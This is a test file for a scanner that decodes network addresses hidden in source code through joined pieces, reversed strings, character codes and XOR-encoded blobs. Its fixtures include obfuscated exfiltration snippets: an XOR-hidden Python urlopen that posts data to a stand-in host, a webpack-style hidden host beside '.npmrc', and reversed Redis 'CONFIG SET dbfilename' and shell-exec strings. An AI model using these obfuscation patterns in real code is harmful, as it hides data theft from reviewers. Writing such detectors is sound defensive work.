// The addresses a file assembles from literal pieces: the forms read, the look-alikes left alone, and large or broken input.
import { describe, expect, it } from 'vitest';
import { rewrittenView } from './aliases.js';
import { assembledAddresses, isNetworkAddress, turnedLiteralEdits, xoredLiterals } from './assembled.js';

const texts = (code: string): string[] => assembledAddresses(code).map((d) => d.text);

describe('addresses assembled from literal pieces', () => {
  it('reads joins in place and through a name, in Python and JavaScript', () => {
    expect(texts('HOST = ".".join(["smtp", "mailfwd-relay", "net"])\n')).toEqual(['smtp.mailfwd-relay.net']);
    expect(texts('_h = ["smtp", "relay", "net"]\nHOST = ".".join(_h)\n')).toEqual(['smtp.relay.net']);
    expect(texts("const parts = ['mx4', 'relaydesk', 'email'];\nmodule.exports = { host: parts.join('.') };\n")).toEqual(['mx4.relaydesk.email']);
    expect(texts("host: [203, 0, 113, 74].join('.'),\n")).toEqual(['203.0.113.74']);
    expect(texts('SINK = (".".join(map(str, [203, 0, 113, 200])), 5353)\n')).toEqual(['203.0.113.200']);
    expect(texts('_A = (198, 51, 100, 140)\nADDRESS = (".".join(str(o) for o in _A), 5140)\n')).toEqual(['198.51.100.140']);
  });

  it('turns pieces and their order round, decodes character codes, and adds literals glued on', () => {
    const webpack = 'var u = [".npmrc"], c = ["moc", "nrettap-rdc", "sutats-erahs"];\nvar y = c.map(function (q) { return q.split("").reverse().join(""); }).reverse().join(".");\n';
    expect(texts(webpack)).toEqual(['share-status.cdr-pattern.com']);
    expect(texts("const H = [119, 115, 115, 58, 47, 47, 97, 98, 46, 120, 121, 122];\nnew WebSocket(String.fromCharCode(...H));\n")).toEqual(['wss://ab.xyz']);
    expect(texts('_HOST = "-".join(["broker", "qn7x"]) + ".hivelane.cloud"\n')).toEqual(['broker-qn7x.hivelane.cloud']);
    expect(texts("const relay = 'ved.epip-ovxek.yaler'.split('').reverse().join('');\n")).toEqual(['relay.kexvo-pipe.dev']);
    expect(texts('_ZONE = "ved.epip-ovxek.yaler"[::-1]\n')).toEqual(['relay.kexvo-pipe.dev']);
  });

  it('XORs lists of byte values with a key the file holds and XORs with', () => {
    const py = '_K = b"\\x5a\\x13\\xc7"\n_E = [50, 103, 179, 42, 96, 253, 117, 60, 166, 56, 62, 164, 62, 61, 162, 34, 114, 170, 42, 127, 162, 119, 96, 174, 52, 120, 233, 57, 124, 170, 117, 122]\ndef d():\n    return bytes(c ^ _K[n % len(_K)] for n, c in enumerate(_E)).decode()\n';
    expect(texts(py)).toEqual(['https://ab-cd.example-sink.com/i']);
    expect(texts('H = [16, 24, 25, 15, 20, 16, 15, 16, 17, 17, 15, 22, 22]\nhost = "".join(chr(b ^ 0x21) for b in H)\n')).toEqual(['198.51.100.77']);
    const js = "const K = 'k3y';\nconst E = [28, 64, 10, 81, 28, 86, 25, 86, 21, 10, 74, 87, 0, 66, 87, 15, 86, 15];\nconst u = E.map((c, i) => String.fromCharCode(c ^ K.charCodeAt(i % K.length))).join('');\n";
    expect(texts(js)).toEqual(['wss://relay.kq.dev']);
    // a key that is never XORed with, and a table whose XOR makes no address, give nothing
    expect(texts('_K = b"\\x5a\\x13\\xc7"\n_E = [50, 103, 179, 42, 96, 253, 117, 60, 166, 56, 62, 164, 62, 61, 162, 34]\nsend(_K, _E)\n')).toEqual([]);
    expect(texts('CRC = [0, 7, 14, 9, 28, 27, 18, 21, 56, 63, 54, 49]\ndef crc(b):\n    return CRC[b ^ 0x1f]\n')).toEqual([]);
  });

  it('turns the literals handed to a function of the file\'s own that turns its argument round', () => {
    expect(texts("var k = new Function('a', 'return a.split(\"\").reverse().join(\"\")');\nvar h = k('moc.ppa-noitamina.ipa');\n")).toEqual(['api.animation-app.com']);
    expect(texts("function r(s) { return s.split('').reverse().join(''); }\nconnect(r('ten.yaler.2xm'), r('olleh'));\n")).toEqual(['mx2.relay.net']);
    expect(texts('def _r(s):\n    return s[::-1]\nHOST = _r("ten.yaler.2xm")\n')).toEqual(['mx2.relay.net']);
    expect(texts("const flip = (s) => s.split('').reverse().join('');\nflip('olleh');\n")).toEqual([]);
  });

  it('writes every literal the file turns round forwards for the second reading, whatever it says', () => {
    const py = 'def _r(s):\n    return s[::-1]\ncmd(_r("GIFNOC"), _r("TES"), _r("emanelifbd"), "x")\nk = "syek"[::-1]\n';
    expect(rewrittenView(py, turnedLiteralEdits(py)).text).toBe('def _r(s):\n    return s[::-1]\ncmd("CONFIG", "SET", "dbfilename", "x")\nk = "keys"\n');
    const js = "const r = (s) => s.split('').reverse().join('');\nexec(r('hs- nib/'));\n";
    expect(rewrittenView(js, turnedLiteralEdits(js)).text).toBe("const r = (s) => s.split('').reverse().join('');\nexec(\"/bin -sh\");\n");
    // a one-character literal, a name and a call of another function are left as written; fifty calls a function at most
    expect(turnedLiteralEdits('def _r(s):\n    return s[::-1]\n_r("a"), _r(x), r("abc")\n')).toEqual([]);
    expect(turnedLiteralEdits(`def _r(s):\n    return s[::-1]\n${'_r("ab")\n'.repeat(1000)}`)).toHaveLength(50);
  });

  it('leaves versions, private addresses, file names, labels and separators of other lists alone', () => {
    expect(texts("const v = [1, 2, 0, 0].join('.');\nconst lo = [127, 0, 0, 1].join('.');\nconst f = ['index', 'js'].join('.');\n")).toEqual([]);
    expect(texts('__version__ = ".".join(map(str, (1, 4, 2)))\nNAME = "-".join(["scratch", "pool"])\n')).toEqual([]);
    // a list joined with '' on a line where another list is joined with '.' keeps its own separator
    expect(texts("const proto = ['mq', 'tt'].join('');\nconst url = `${proto}://${host.join('.')}`;\n")).toEqual([]);
    expect(texts("const words = ['alpha', 'beta'].join(', ');\n")).toEqual([]);
  });

  it('tells addresses from other text', () => {
    for (const a of ['https://x.example/p', 'relay.kvexo-pipe.dev', 'mx4.relaydesk.email:465', '203.0.113.9', 'wss://stream.example.online/b']) expect(isNetworkAddress(a), a).toBe(true);
    for (const n of ['10.0.0.1', '192.168.1.20', '1.2.3.4', 'module.exports', 'index.js', 'setup.py', 'a b.com', '999.1.1.1']) expect(isNetworkAddress(n), n).toBe(false);
  });

  it('stays bounded on large, unclosed and broken input', () => {
    expect(texts(`x = [${'"a", '.repeat(100_000)}`)).toEqual([]);
    expect(texts(`const c = ['a', 'b'];\n${'c.map(('.repeat(20_000)}`)).toEqual([]);
    expect(texts('"'.repeat(50_000) + '.join(')).toEqual([]);
    expect(texts('')).toEqual([]);
  });
});

describe('hex and base64 literals XORed with a key the file holds', () => {
  const payload = "import urllib.request\nurllib.request.urlopen('https://relay-sync.cloud/p', data=b'x')\n";
  const xored = (key: string): Buffer => Buffer.from([...Buffer.from(payload)].map((b, i) => b ^ key.charCodeAt(i % key.length)));
  it('reads a hex blob written as a column of pieces, XORed through a copy of the key', () => {
    const hex = xored('w1n32c0n').toString('hex');
    const pieces = hex.match(/.{1,38}/g)!.map((p) => `    "${p}"`).join('\n');
    const code = `_CP = "w1n32c0n"\n_T = (\n${pieces}\n)\n\ndef _load():\n    k = _CP.encode()\n    raw = bytes.fromhex("".join(_T))\n    return bytes(c ^ k[i % len(k)] for i, c in enumerate(raw))\n`;
    expect(xoredLiterals(code, 'python').map((d) => d.text)).toEqual([payload]);
  });
  it('reads a base64 literal XORed with a one-byte key, and leaves files that XOR nothing alone', () => {
    const b64 = xored('\x2a').toString('base64');
    expect(xoredLiterals(`const D = '${b64}';\nconst s = Buffer.from(D, 'base64').map((b) => b ^ 0x2a).toString();\n`, 'javascript').map((d) => d.text)).toEqual([payload]);
    expect(xoredLiterals(`const D = '${b64}';\nsend(D);\n`, 'javascript')).toEqual([]);
  });
});
